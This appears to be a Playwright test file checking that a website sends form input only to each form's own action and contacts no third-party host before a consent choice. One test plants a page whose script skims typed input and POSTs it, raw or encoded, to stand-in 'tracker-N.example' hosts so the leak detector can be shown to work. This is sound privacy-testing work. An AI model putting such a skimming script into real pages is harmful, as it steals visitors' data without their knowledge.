/** Data leaks: form input only to its own form, and no third-party host before a choice; every page and choice: leaks.deep.spec.ts. */
import { expect, test } from '@playwright/test';
import { OPTIONAL } from '#domain/privacy/consent.ts';
import { distinct, pages } from '../site/dist.ts';
import { foreign, leaks, SECRETS, visitor, walk } from './leaks.ts';
import { open } from './open.ts';

const PLANTED = '/planted';
const [EMAIL = '', NAME = '', MESSAGE = ''] = SECRETS;

test('pages with embeds ask no other host before a choice', async ({ browser, baseURL }) => {
  const own = new URL(baseURL ?? '').host;
  const { context, all, refused } = await visitor(browser, own, undefined);
  await walk(
    context,
    distinct.filter(({ html }) => html.includes('data-embed=')).map(({ route }) => route),
  );
  expect(all.length).toBeGreaterThan(20);
  expect(foreign(all, own)).toEqual([]);
  expect(refused).toEqual([]);
  await context.close();
});

const forms = pages.filter(
  ({ html, $, route }) =>
    html.includes('method="post"') && $('main form[method="post"]').length && route !== '/404',
);
const kinds = new Map(
  forms.map(({ $, route }) => [$('main form[method="post"]').attr('action') ?? '', route]),
);

for (const [action, route] of kinds) {
  test(`input on ${route} is only sent to ${action}`, async ({ browser, baseURL }) => {
    const own = new URL(baseURL ?? '').host;
    const { context, all } = await visitor(browser, own, OPTIONAL);
    const page = await context.newPage();
    await open(page, route);
    const form = page.locator('main form[method="post"]').first();
    for (const field of await form
      .locator('input:visible, textarea:visible, select:visible')
      .all()) {
      const type = await field.evaluate((element) => (element as HTMLInputElement).type);
      // Clicked by script: current times can replace the list of times while it is chosen from.
      if (type === 'checkbox' || type === 'radio')
        await field.evaluate((input: HTMLInputElement) => input.checked || input.click());
      else if (type === 'select-one') await field.selectOption({ index: 1 });
      else if (type === 'email') await field.fill(EMAIL);
      else if (type === 'textarea') await field.fill(MESSAGE);
      else if (type === 'tel') await field.fill('(214) 555-0199');
      else await field.fill(NAME);
    }
    await form.locator('button[type="submit"]').click();
    await page.goto('/team');
    await page.waitForLoadState('networkidle');
    expect(leaks(all, SECRETS, [action])).toEqual([]);
    await context.close();
  });
}

test('a planted leak is found, in every encoding', async ({ browser, baseURL }) => {
  const own = new URL(baseURL ?? '').host;
  const { context, all } = await visitor(browser, own, undefined);
  const send = [
    '(value) => value',
    'encodeURIComponent',
    'btoa',
    "async (value) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)))].map((byte) => byte.toString(16).padStart(2, '0')).join('')",
  ];
  await context.route(`**${PLANTED}`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<input><script>document.querySelector('input').oninput = async ({ target }) => {
          for (const [at, disguise] of [${send}].entries())
            fetch('https://tracker-' + at + '.example/', { method: 'POST', mode: 'no-cors', body: await disguise(target.value) });
        }</script>`,
    }),
  );
  const page = await context.newPage();
  await page.goto(PLANTED);
  await page.locator('input').fill(EMAIL);
  const found = send.map((_, at) => `POST tracker-${at}.example/`);
  await expect.poll(() => leaks(all, SECRETS).toSorted()).toEqual(found);
  expect(foreign(all, own).toSorted()).toEqual(send.map((_, at) => `tracker-${at}.example`));
  await context.close();
});
